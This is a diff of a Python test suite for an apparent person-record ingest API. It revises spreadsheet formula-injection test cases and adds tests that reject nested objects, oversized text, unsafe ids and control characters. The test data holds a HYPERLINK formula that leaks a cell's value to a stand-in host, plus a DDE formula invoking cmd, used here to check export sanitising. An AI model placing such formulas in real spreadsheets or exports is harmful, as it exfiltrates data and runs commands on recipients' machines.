@@ -97,9 +97,10 @@ def test_an_export_that_fails_audits_nobody(lenient, fresh, monkeypatch):
 # -- 2. formula injection -------------------------------------------------------------------
 
 FORMULAS = {
-    "town": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
-    "worker_id": "=cmd|' /C calc'!A0",
+    "town": '=HYPERLINK("example.invalid?leak="&A1,"click")',
+    "worker_id": "=cmd|' -C calc'!A0",
 }
+# (a person id can no longer start a formula: ids must start with a letter or digit)
 
 
 def test_exported_cells_never_start_a_formula(api_fresh, fresh):
@@ -243,3 +244,67 @@ def test_api_ingest_rejects_year_one_and_far_future_dates(api_fresh, fresh):
         ("persons", 2, "program_end", "date_out_of_range"),
     ]
     assert r.json()["persons"]["stored"] == 1
+
+
+# -- 5. JSON shapes, text bounds, safe ids, control characters --------------------------------
+
+
+def test_api_ingest_rejects_objects_overlong_text_unsafe_ids_and_control_characters(
+    api_fresh, fresh
+):
+    from tests.factories import person
+
+    rows = [
+        person(person_id="p-50") | {"town": {"name": "东镇"}},
+        person(person_id="p-51") | {"district": ["示例区"]},
+        person(person_id="p-52", town="镇" * 200_000),
+        person(person_id="p-53", education="x" * 1_000_000),
+        person(person_id="p-5/4"),
+        person(person_id="p-55\x00"),
+        person(person_id="p-56", worker_id="w\x1b[31m"),
+        person(person_id="p-57"),
+    ]
+    r = api_fresh.post(
+        "/api/v1/ingest", headers=auth(fresh.tokens, "integ"), json={"persons": rows}
+    )
+    assert r.status_code == 422
+    body = r.json()
+    got = [(x["row"], x["column"], x["code"]) for x in body["rejections"]]
+    assert got == [
+        (1, "town", "not_scalar"),
+        (2, "district", "not_scalar"),
+        (3, "town", "too_long"),
+        (4, "education", "too_long"),
+        (5, "person_id", "bad_id"),
+        (6, "person_id", "control_character"),
+        (7, "worker_id", "control_character"),
+    ]
+    assert len(r.content) < 10_000  # nothing of the megabyte comes back
+    assert body["persons"]["stored"] == 1
+    with fresh.engine.connect() as conn:
+        stored = set(conn.execute(sa.text("SELECT person_id FROM persons")).scalars())
+    assert "p-57" in stored and not {p for p in stored if not p.startswith("p-0")} - {"p-57"}
+
+
+def test_every_stored_person_is_reachable_by_its_id(api_fresh, fresh):
+    from tests.factories import person
+
+    rows = [person(person_id=p, worker_id="w-1") for p in ("a.b", "A:1", "x_y-z", "9")]
+    r = api_fresh.post(
+        "/api/v1/ingest", headers=auth(fresh.tokens, "integ"), json={"persons": rows}
+    )
+    assert r.status_code == 200, r.text
+    with fresh.engine.connect() as conn:
+        ids = list(conn.execute(sa.text("SELECT person_id FROM persons")).scalars())
+    for pid in ids:
+        got = api_fresh.get(f"/api/v1/persons/{pid}/timeline", headers=auth(fresh.tokens, "admin"))
+        assert got.status_code == 200, (pid, got.text)
+
+
+def test_score_history_rejects_a_nested_person_field(api_fresh, fresh):
+    from tests.factories import person
+
+    body = {"person": person(person_id="p-60") | {"town": {"a": 1}}, "as_of": "2025-06-01"}
+    r = api_fresh.post("/api/v1/score/history", headers=auth(fresh.tokens, "integ"), json=body)
+    assert r.status_code == 422
+    assert [f["field"] for f in r.json()["error"]["fields"]] == ["body.person.town"]
